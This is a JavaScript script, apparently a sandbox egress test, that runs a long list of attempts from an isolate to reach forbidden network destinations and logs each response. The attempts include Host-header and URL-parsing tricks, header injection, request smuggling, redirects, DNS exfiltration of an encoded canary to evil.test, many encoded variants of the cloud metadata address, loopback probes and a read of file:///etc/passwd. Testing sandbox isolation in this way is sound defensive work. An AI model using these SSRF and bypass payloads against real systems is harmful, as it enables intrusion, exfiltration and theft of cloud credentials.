// Tries by fetch, which is all that an isolate has, to reach what it may not. One line
// for each attempt: its name, a tab, what came back. `groups` and `ports` stand before.
const attempts = {};
const get = (url, more) => async () => {
  const r = await fetch(url, { signal: AbortSignal.timeout(8000), ...more });
  return r.status + " " + (await r.text());
};
const host = (name) => ({ headers: { Host: name } });

attempts.good = { "good http": get("http://allowed.test/"), "good https": get("https://allowed.test/") };
attempts.names = {
  "another name": get("http://evil.test/"), "another name by https": get("https://evil.test/"), "another port": get("http://allowed.test:8080/"),
  "Host of another": get("http://allowed.test/", host("evil.test")), "Host of another by https": get("https://allowed.test/", host("evil.test")),
  "Host of the allowed": get("http://evil.test/", host("allowed.test")), "forwarded for another": get("http://allowed.test/", { headers: { "X-Forwarded-Host": "evil.test", Forwarded: "host=evil.test" } }),
  "address of the allowed name": get("http://93.184.216.34/", host("allowed.test")), "address of another": get("http://93.184.216.35/", host("allowed.test")),
  "user before the host": get("http://allowed.test@evil.test/"), "user with a port": get("http://allowed.test:80@evil.test/"), "backslash": get("http://allowed.test\\@evil.test/"),
  "NUL": get("http://evil.test\0.allowed.test/"), "line break": get("http://allowed.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\nGET http://evil.test/"), "path of another": get("http://allowed.test/http://evil.test/"),
  "two slashes": get("http://allowed.test//evil.test/"), "name below": get("http://allowed.test.evil.test/"), "name above": get("http://x.allowed.test/"), "dot at the end": get("http://evil.test./"),
  "leads inside": get("http://inner.test/"), "leads home": get("http://home.test/"), "data in a name": get("http://c2VjcmV0LWNhbmFyeQ.evil.test/"),
  "redirect": get("http://allowed.test/redirect?http://evil.test/"), "redirect to https": get("http://allowed.test/redirect?https://evil.test/"), "redirect inside": get("http://allowed.test/redirect?http://10.0.0.7/"),
  "CONNECT": get("http://evil.test:443/", { method: "CONNECT" }), "TRACE": get("http://evil.test/", { method: "TRACE" }), "resolve override": get("http://allowed.test/", { cf: { resolveOverride: "evil.test" } }),
  "smuggled by lengths": get("http://allowed.test/", { method: "POST", headers: { "Content-Length": "60", "Transfer-Encoding": "chunked" }, body: "0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n" }),
  "header with a break": get("http://allowed.test/", { headers: { "X-A": "a\r\nHost: evil.test" } }), "upgrade": get("http://evil.test/", { headers: { Upgrade: "websocket" } }),
  "upgrade of the allowed": get("http://allowed.test/", { headers: { Upgrade: "websocket", Host: "evil.test" } }), "as a proxy's": get("http://way/", host("evil.test")),
  "WebSocket": () => new Promise((yes, no) => { const w = new WebSocket("ws://evil.test/"); w.onopen = () => yes("OPENED"); w.onerror = () => no(new Error("refused")); setTimeout(() => no(new Error("late")), 3000) }),
  "EventSource": () => new Promise((yes, no) => { const e = new EventSource("http://evil.test/"); e.onopen = () => yes("OPENED"); e.onerror = () => { e.close(); no(new Error("refused")) }; setTimeout(() => { e.close(); no(new Error("late")) }, 3000) }),
  "socket": async () => { const { connect } = await import("cloudflare:sockets"); const s = connect("93.184.216.35:80"); await s.opened; return "OPENED" },
};
attempts.metadata = {};
for (const m of [
  "169.254.169.254", "0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "169.254.43518", "169.254.169.254.", "[::ffff:169.254.169.254]", "[::a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]",
  "[2002:a9fe:a9fe::]", "[fd00:ec2::254]", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192", "metadata.google.internal", "metadata", "instance-data", "meta.test",
  "META.TEST.", "169.254.169.254.meta.test", "%31%36%39.254.169.254", "①⑥⑨.254.169.254", "10.0.0.7", "192.168.7.1", "127.0.0.1", "localhost", "[::1]", "0.0.0.0",
]) {
  attempts.metadata["metadata " + m] = get("http://" + m + "/latest/meta-data/", { headers: { "X-aws-ec2-metadata-token": "x", "Metadata-Flavor": "Google", Metadata: "true" } });
  attempts.metadata["metadata by https " + m] = get("https://" + m + "/latest/api/token", { method: "PUT" });
}
attempts.metadata["metadata by redirect"] = get("http://allowed.test/redirect?http://169.254.169.254/latest/");
attempts.metadata["metadata as Host"] = get("http://allowed.test/", host("169.254.169.254"));
attempts.metadata["metadata, allowed as Host"] = get("http://169.254.169.254/", host("allowed.test"));
attempts.home = {};
for (const a of ["127.0.0.1", "127.0.0.2", "127.255.255.254", "localhost", "[::1]", "0.0.0.0", "0", "[::]", "[::ffff:127.0.0.1]", "127.1", "10.0.0.7", "192.168.7.1", "home.test", "inner.test"]) {
  for (const p of ports) {
    attempts.home["home " + a + ":" + p] = get("http://" + a + ":" + p + "/");
    attempts.home["home, allowed as Host " + a + ":" + p] = get("http://" + a + ":" + p + "/", host("allowed.test"));
  }
}
attempts.home["home by redirect"] = get("http://allowed.test/redirect?http://127.0.0.1/");
const has = (name) => () => { if (!(name in globalThis)) throw new Error("not here"); return "OPENED" };
const opens = (module, how) => async () => how(await import(module));
attempts.others = {
  "udp": opens("node:dgram", (m) => new Promise((yes, no) => { const s = m.createSocket("udp4"); s.on("error", no); s.send("canary", 53, "93.184.216.35", (e) => e ? no(e) : yes("OPENED")) })),
  "tcp": opens("node:net", (m) => new Promise((yes, no) => { const s = m.connect(80, "93.184.216.35", () => yes("OPENED")); s.on("error", no); setTimeout(() => no(new Error("late")), 3000) })),
  "socket to an address": async () => { const { connect } = await import("cloudflare:sockets"); const s = connect("169.254.169.254:80"); await s.opened; return "OPENED" },
  "socket of TLS": async () => { const { connect } = await import("cloudflare:sockets"); const s = connect("93.184.216.35:443", { secureTransport: "on" }); await s.opened; return "OPENED" },
  "a server": opens("node:http", (m) => new Promise((yes, no) => { const s = m.createServer(); s.on("error", no); s.listen(0, "0.0.0.0", () => yes("OPENED")); setTimeout(() => no(new Error("late")), 3000) })),
  "names": opens("node:dns", (m) => new Promise((yes, no) => { m.resolve("c2VjcmV0LWNhbmFyeQ.evil.test", (e, r) => e ? no(e) : yes("OPENED " + r)); setTimeout(() => no(new Error("late")), 3000) })),
  "RTCPeerConnection": has("RTCPeerConnection"), "WebTransport": has("WebTransport"), "TCPSocket": has("TCPSocket"), "UDPSocket": has("UDPSocket"), "XMLHttpRequest": has("XMLHttpRequest"),
  "secure WebSocket": () => new Promise((yes, no) => { const w = new WebSocket("wss://evil.test/"); w.onopen = () => yes("OPENED"); w.onerror = () => no(new Error("refused")); setTimeout(() => no(new Error("late")), 3000) }),
};
for (const scheme of ["file:///etc/passwd", "unix:/run/way", "unix://run/way/", "ftp://93.184.216.35/", "gopher://93.184.216.35/", "data:,local", "blob:null/x", "ws://evil.test/", "dns:evil.test", "jar:http://evil.test!/", "http+unix://%2frun%2fway/"]) {
  attempts.others["scheme " + scheme] = get(scheme);
}

for (const group of groups) {
  for (const [name, attempt] of Object.entries(attempts[group])) {
    let got;
    try { got = await attempt() } catch (e) { got = "ERR " + e }
    console.log(name + "\t" + String(got).replace(/\s+/g, " ").slice(0, 200));
  }
}
console.log("END");
process.exit(0);
